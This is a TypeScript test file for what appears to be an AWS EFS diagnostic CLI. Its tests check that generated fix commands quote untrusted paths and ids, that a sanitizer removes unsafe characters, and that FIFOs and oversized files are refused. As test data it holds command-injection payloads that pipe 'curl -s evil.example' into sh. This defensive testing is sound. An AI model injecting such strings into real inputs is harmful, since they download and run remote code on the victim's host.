/**
 * Items 5, 10 and 13: special files, fix commands that embed untrusted text, and ids that are names of
 * Object.prototype members. Property tests (fast-check) hold the one quoting function and the one sanitizer.
 */
import {withHostFacts} from '../support/host-facts.js'
import {execFileSync} from 'node:child_process'
import fc from 'fast-check'
import {mkdtempSync, writeFileSync, openSync, ftruncateSync, closeSync} from 'node:fs'
import {tmpdir} from 'node:os'
import {join} from 'node:path'
import Check from '../../src/commands/check.js'
import Lint from '../../src/commands/lint.js'
import {shellCommand, shellWord} from '../../src/core/shell.js'
import {escapeUnsafe, escapeUnsafeJson, sanitizeDeep, sanitizeText, UNSAFE_CHARS} from '../../src/core/sanitize.js'
import {MAX_TEMPLATE_BYTES} from '../../src/core/input-file.js'
import {ssmRun} from '../../src/checks/_lib/host.js'
import {snippetCommand} from '../../src/checks/_lib/user-data-check.js'
import type {Report} from '../../src/core/types.js'
import {healthy, IDS, withFault} from '../support/snapshot-builder.js'
import {awsvpcWorker, FAULTS, faulty, TASK_SG} from '../support/faults.js'
import {withHostFault} from '../support/host-facts.js'
import {allChecks} from '../../src/checks/index.js'
import {runChecks} from '../../src/core/run-checks.js'
import type {Snapshot} from '../../src/model/snapshot.js'
import {expectOneLineExit2, runCommand} from '../support/run-command.js'
import {bounded} from './bounded.js'
import {wordsBashSees} from '../support/bash-words.js'

const dir = mkdtempSync(join(tmpdir(), 'efsd-abuse-q-'))

beforeAll(async () => {
  // NOTE: the first command run loads oclif and every check; a case's time is its own work.
  await runCommand(Check, ['--from', 'examples/snapshots/healthy.json', '--json'])
  await runCommand(Lint, ['--help'])
})
const PAYLOAD = '/mnt/efs;curl${IFS}-s${IFS}evil.example|sh;#/x'
const QUOTE_PAYLOAD = "/mnt/x';curl -s evil.example|sh;'"

describe('one quoting function for every printed command', () => {
  it('property: bash reads back exactly the words given, whatever they hold', () => {
    const word = fc.string({unit: 'binary', maxLength: 40}).filter(w => !w.includes('\0') && !w.includes('\u0001')) // \u0001 separates calls in wordsBashSees
    const samples = fc.sample(fc.array(word, {minLength: 1, maxLength: 5}), 120)
    const script = samples.map(ws => shellCommand(['echo', ...ws])).join('\n')
    const calls = wordsBashSees(script)
    expect(calls).toEqual(samples.map(ws => ['echo', ...ws]))
  })

  it('property: a word with only safe characters is left as it is; any other is quoted', () => {
    fc.assert(fc.property(fc.string({maxLength: 30}).filter(w => !w.includes('\0')), w => {
      const q = shellWord(w)
      return /^[A-Za-z0-9_@%+=:,./-]+$/.test(w) ? q === w : q.startsWith("'") && q.endsWith("'")
    }), {numRuns: 500})
  })

  it('item 10: the userdata and SSM fixes keep a hostile path one word', () => {
    const s = healthy()
    expect(wordsBashSees(snippetCommand(s, {mountPoint: PAYLOAD})!)).toEqual([['efsdoctor', 'userdata', '--file-system', s.scope.fileSystems[0].id, '--path', PAYLOAD]])
    // A hostile access point in the mount's options stays one word too.
    expect(wordsBashSees(snippetCommand(s, {mountPoint: '/mnt/efs', fsType: 'efs', options: ['tls', `accesspoint=${PAYLOAD}`]})!))
      .toEqual([['efsdoctor', 'userdata', '--file-system', s.scope.fileSystems[0].id, '--path', '/mnt/efs', '--tls', '--access-point', PAYLOAD]])
    const ssm = wordsBashSees(ssmRun('i-0123456789abcdef0', shellCommand(['mount', QUOTE_PAYLOAD])))
    expect(ssm).toHaveLength(1)
    const params = JSON.parse(ssm[0][ssm[0].indexOf('--parameters') + 1]) as {commands: string[]}
    expect(wordsBashSees(params.commands[0])).toEqual([['mount', QUOTE_PAYLOAD]])
  })

  it('item 10: every fix in a report from a hostile snapshot runs only the words it shows', async () => {
    const file = join(dir, 'paths.json')
    // Probed hosts that lack the mount: host/efs-mounted fails with an `efsdoctor mount … --path <payload>` fix.
    const probed = withHostFacts(withFault(() => {}))
    writeFileSync(file, JSON.stringify(((x) => {
      for (const h of Object.values(x.hostFacts ?? {})) if (h.facts) { h.facts.mounts = []; h.facts.fstab = [] }
      for (const td of x.taskDefinitions ?? []) for (const v of td.volumes) if (v.host) v.host.sourcePath = QUOTE_PAYLOAD
      for (const ud of x.userData ?? []) ud.text = ud.text.replaceAll('/mnt/efs', PAYLOAD)
      return x
    })(probed)))
    const r = await bounded(() => runCommand(Check, ['--from', file, '--json']))
    const report = JSON.parse(r.stdout) as Report
    const commands = report.findings.map(f => f.fix?.command).filter((c): c is string => Boolean(c))
    expect(commands.length).toBeGreaterThan(0)
    for (const c of commands) {
      for (const call of wordsBashSees(c.replace(/\s+#.*$/, ''))) {
        expect(call.some(w => w.includes('curl') && !(w === PAYLOAD || w === QUOTE_PAYLOAD || w.includes(PAYLOAD) || w.includes(QUOTE_PAYLOAD)))).toBe(false)
      }
    }
  })
})

describe('one sanitizer', () => {
  it('property: no unsafe character survives, and safe text is kept as it is', () => {
    fc.assert(fc.property(fc.string({unit: 'binary', maxLength: 60}), t => {
      const out = sanitizeText(t)
      UNSAFE_CHARS.lastIndex = 0
      const clean = !new RegExp(UNSAFE_CHARS.source).test(out)
      const escaped = !new RegExp(UNSAFE_CHARS.source).test(escapeUnsafe(t))
      const kept = new RegExp(UNSAFE_CHARS.source).test(t) || out === t
      return clean && escaped && kept
    }), {numRuns: 1000})
  })

  it('property: sanitizeDeep leaves no unsafe character in any key or string, copies only what it changes, and never touches its input', () => {
    const unsafe = new RegExp(UNSAFE_CHARS.source)
    const strings = (v: unknown): string[] => typeof v === 'string' ? [v]
      : Array.isArray(v) ? v.flatMap(strings)
        : v && typeof v === 'object' ? Object.entries(v).flatMap(([k, x]) => [k, ...strings(x)]) : []
    fc.assert(fc.property(fc.jsonValue({maxDepth: 4}), fc.string({unit: 'binary', maxLength: 8}), (value, noise) => {
      const dirty = JSON.parse(JSON.stringify({value, noise, [`k${noise}`]: [noise]})) as unknown
      const before = JSON.stringify(dirty)
      const out = sanitizeDeep(dirty)
      const changed = strings(dirty).some(t => unsafe.test(t))
      return !strings(out).some(t => unsafe.test(t)) && JSON.stringify(dirty) === before &&
        (changed ? out !== dirty : out === dirty) && (changed || JSON.stringify(out) === before)
    }), {numRuns: 500})
  })

  it('treats every code unit alone and beside safe text exactly as the full replace does (its quick pre-check misses none)', () => {
    const escape = (t: string) => t.replace(UNSAFE_CHARS, c => `\\u${c.charCodeAt(0).toString(16).toUpperCase().padStart(4, '0')}`)
    for (let u = 0; u <= 0xFFFF; u++) {
      const t = `a${String.fromCharCode(u)}b`
      if (escapeUnsafe(t) !== escape(t) || sanitizeText(t) !== t.replace(UNSAFE_CHARS, '')) throw new Error(`U+${u.toString(16)} differs`)
    }
    expect(escapeUnsafe('pair \uD83D\uDE00 kept')).toBe('pair \uD83D\uDE00 kept')
  })

  it('escapes JSON.stringify\'s text exactly as escapeUnsafe does, for every code unit and for any JSON value (its ASCII shortcut misses none)', () => {
    for (let u = 0; u <= 0xFFFF; u++) {
      const json = JSON.stringify({[`k${String.fromCharCode(u)}`]: `a${String.fromCharCode(u)}b`}, null, 2)
      if (escapeUnsafeJson(json) !== escapeUnsafe(json)) throw new Error(`U+${u.toString(16)} differs`)
    }
    fc.assert(fc.property(fc.jsonValue({maxDepth: 3}), fc.string({unit: 'binary', maxLength: 20}), (value, noise) => {
      const json = JSON.stringify({value, noise}, null, 2)
      return escapeUnsafeJson(json) === escapeUnsafe(json)
    }), {numRuns: 500})
    expect(escapeUnsafeJson('{"a": "del\u007F"}')).toBe('{"a": "del\\u007F"}')
  })
})

describe('item 5: special and huge files are refused with one line', () => {
  it('check --from /dev/zero', async () => {
    expectOneLineExit2(await bounded(() => runCommand(Check, ['--from', '/dev/zero'])), /\/dev\/zero is not a regular file/)
  })

  it.each([
    ['check --from', (f: string) => [Check, ['--from', f]] as const],
    ['lint', (f: string) => [Lint, [f]] as const],
    ['--config', (f: string) => [Check, ['--from', 'examples/snapshots/healthy.json', '--config', f]] as const],
  ])('a FIFO given to %s', async (_name, argv) => {
    const fifo = join(dir, `fifo-${Math.random()}`)
    execFileSync('mkfifo', [fifo])
    const [cmd, args] = argv(fifo)
    expectOneLineExit2(await bounded(() => runCommand(cmd, [...args])), /is not a regular file/)
  })

  it('a template over the size cap', async () => {
    const big = join(dir, 'big.yaml')
    const fd = openSync(big, 'w')
    ftruncateSync(fd, MAX_TEMPLATE_BYTES + 1)
    closeSync(fd)
    expectOneLineExit2(await bounded(() => runCommand(Lint, [big])), /is too large/)
  })
})

describe('item 13: ids named like Object.prototype members', () => {
  it('an instance id "constructor" is an id like any other, never "undefined"', async () => {
    const file = join(dir, 'ctor.json')
    writeFileSync(file, JSON.stringify(withFault(x => {
      x.containerInstances![0].ec2InstanceId = 'constructor'
      x.containerInstances![1].ec2InstanceId = '__proto__'
    })))
    const r = await bounded(() => runCommand(Check, ['--from', file, '--json']))
    expect(r.stderr).toBe('')
    const report = JSON.parse(r.stdout) as Report
    for (const f of report.findings) {
      expect(f.message).not.toMatch(/undefined|\[object|function/)
      expect(f.fix?.command ?? '').not.toMatch(/undefined/)
    }
    expect(report.findings.some(f => f.message.includes('constructor'))).toBe(true)
  })
})

describe('item 10: fix commands built from hostile ids and names', () => {
  const EVIL = ';curl -s evil.example|sh;'
  /** `s` with the cluster, the security groups, the services and one instance renamed `<name>;curl …|sh;` everywhere. */
  const hostile = (s: Snapshot): Snapshot => {
    let text = JSON.stringify(s)
    for (const name of ['prod', IDS.hostSg, IDS.efsSg, TASK_SG, 'worker', IDS.instances[0]]) text = text.replaceAll(name, `${name}${EVIL}`)
    return JSON.parse(text) as Snapshot
  }
  const scenarios: Record<string, Snapshot> = {
    ...Object.fromEntries(Object.keys(FAULTS).map(name => [name, faulty(name)])),
    'no egress on the host group': withFault(x => { x.securityGroups![IDS.hostSg].egress = [] }),
    'a task security group without egress': withFault(x => { awsvpcWorker(x, {admitted: true}); x.securityGroups![TASK_SG].egress = [] }),
    'a container instance draining': withFault(x => { x.containerInstances![0].status = 'DRAINING' }),
    'Fargate 1.3.0 with an EFS volume': withFault(x => {
      awsvpcWorker(x, {admitted: true})
      Object.assign(x.services!.find(v => v.name === 'worker')!, {launchType: 'FARGATE', platformVersion: '1.3.0'})
      const td = x.taskDefinitions!.find(t => t.family === 'prod-worker')!
      td.volumes = [{name: 'efs', efsVolumeConfiguration: {fileSystemId: IDS.fs, transitEncryption: 'ENABLED'}}]
    }),
    'a host without its mount': withHostFault(f => { f.mounts = []; f.fstab = [] }),
  }

  it('bash runs only the words shown: the hostile part stays inside its word', () => {
    const commands = new Map<string, string[]>()
    for (const [name, s] of Object.entries(scenarios)) {
      for (const f of runChecks(allChecks, hostile(s)).findings) {
        if (f.fix?.command) commands.set(f.checkId, [...commands.get(f.checkId) ?? [], `${name}: ${f.fix.command}`])
      }
    }
    // The fixes that once interpolated these values unquoted are all exercised.
    for (const id of ['network/client-sg-egress-nfs', 'ecs/container-instances-healthy', 'host/efs-mounted']) expect([id, commands.has(id)]).toEqual([id, true])
    for (const [id, list] of commands) {
      for (const line of list) {
        const command = line.slice(line.indexOf(': ') + 2).replace(/\s+#.*$/, '')
        for (const call of wordsBashSees(command)) expect([id, line, call[0]]).not.toEqual([id, line, 'curl'])
      }
    }
  })
})
